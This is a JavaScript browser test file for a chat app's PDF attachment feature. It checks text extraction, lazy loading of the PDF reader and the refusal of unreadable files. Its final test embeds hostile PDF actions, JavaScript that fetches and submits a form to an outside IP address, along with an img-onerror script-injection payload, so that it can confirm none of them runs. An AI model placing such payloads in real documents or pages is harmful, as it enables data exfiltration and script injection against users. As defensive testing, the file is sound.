// PDF files in Chromium: their text becomes part of the message, read in the browser, without a request
// elsewhere.
import assert from 'node:assert/strict';
import { pageUnderTest, until } from './page_under_test.mjs';

const shared = pageUnderTest();
const { pageTest } = shared;

/** A file with these lines on its pages, in Helvetica; `extra` goes into its catalogue. */
function pdf(pages, extra = '') {
  const objects = ['', ''];
  const kids = [];
  const font =
    '<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >> >> >>';
  for (const lines of pages) {
    const text = lines.map((line) => `(${line.replace(/[\\()]/g, '\\$&')}) Tj 0 -14 Td`).join('\n');
    const stream = `BT /F1 12 Tf 72 720 Td\n${text}\nET`;
    objects.push(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
    const box = '/MediaBox [0 0 612 792]';
    objects.push(`<< /Type /Page /Parent 2 0 R ${box} /Resources ${font} /Contents ${objects.length} 0 R >>`);
    kids.push(`${objects.length} 0 R`);
  }
  objects[0] = `<< /Type /Catalog /Pages 2 0 R ${extra} >>`;
  objects[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${kids.length} >>`;
  let file = '%PDF-1.4\n';
  const places = objects.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const xref = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}

const attach = (chat, name, buffer) =>
  chat.page
    .locator('.composer input[type=file]')
    .setInputFiles({ name, mimeType: 'application/pdf', buffer });
const trouble = (chat) => chat.page.locator('.composer-trouble');

pageTest('the text of a PDF is sent as a file of the message', {}, async (chat) => {
  await chat.setLongestReply(4);
  await attach(
    chat,
    'report.pdf',
    pdf([['The whale (a big one)', 'sang at 20 Hz.'], ['On the second page.']]),
  );
  await chat.button('Remove report.pdf').waitFor();
  await chat.ask('Sum it up');
  const expected =
    'report.pdf:\n```\nThe whale (a big one)\nsang at 20 Hz.\n\nOn the second page.\n```\n\nSum it up';
  assert.equal(chat.requests[0].messages[0].content, expected);
});

pageTest('the reader is loaded when the first PDF is attached, not before', {}, async (chat) => {
  const asked = [];
  chat.context.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await chat.page.reload();
  await chat.entry.waitFor();
  await chat.button('Attach text files or PDFs').waitFor();
  assert.ok(!asked.includes('/pdf_reader.js'));
  const worker = chat.page.waitForEvent('worker');
  await attach(chat, 'a.pdf', pdf([['text']]));
  assert.match((await worker).url(), /\/pdf_reader\.js$/);
  await chat.button('Remove a.pdf').waitFor();
  await until(
    () => chat.page.workers().length,
    (count) => count === 0,
    'the reader ends with its file',
  );
});

pageTest(
  'a file without text, a damaged one and a locked one are refused with a sentence',
  {},
  async (chat) => {
    await attach(chat, 'scan.pdf', pdf([[]]));
    await trouble(chat).getByText('scan.pdf holds no text: its pages may be pictures.').waitFor();
    await attach(chat, 'torn.pdf', Buffer.from('%PDF-1.7\nthis is nothing of the kind'));
    await trouble(chat)
      .getByText(/^torn\.pdf (is not a PDF file that can be read|could not be read)/)
      .waitFor();
    const cut = pdf([['whole']]).subarray(0, 300);
    await attach(chat, 'cut.pdf', cut);
    await trouble(chat)
      .getByText(/^cut\.pdf /)
      .waitFor();
    assert.ok(await chat.button('Send').isDisabled(), 'nothing was taken');
  },
);

pageTest('what a PDF wants to do is not done', {}, async (chat) => {
  await chat.setLongestReply(4);
  const wants = [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); fetch\\("http://192.0.2.1/"\\)) >>',
    '/AA << /WC << /S /URI /URI (http://192.0.2.1/a) >> >>',
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\("http://192.0.2.1/b"\\)) >>] >> >>',
  ].join(' ');
  const markup = '<img src=x onerror=window.ran=1>';
  await attach(chat, `${markup}.pdf`, pdf([[markup, '```', 'after the fence']], wants));
  await chat.button(`Remove ${markup}.pdf`).waitFor();
  await chat.ask('Read it');
  assert.ok(
    chat.requests[0].messages[0].content.includes('````\n<img'),
    'the fence is longer than any in the file',
  );
  assert.equal(await chat.page.evaluate(() => window.ran), undefined);
  assert.equal(await chat.page.locator('.scroller img').count(), 0);
}); // And nothing was asked of another origin.
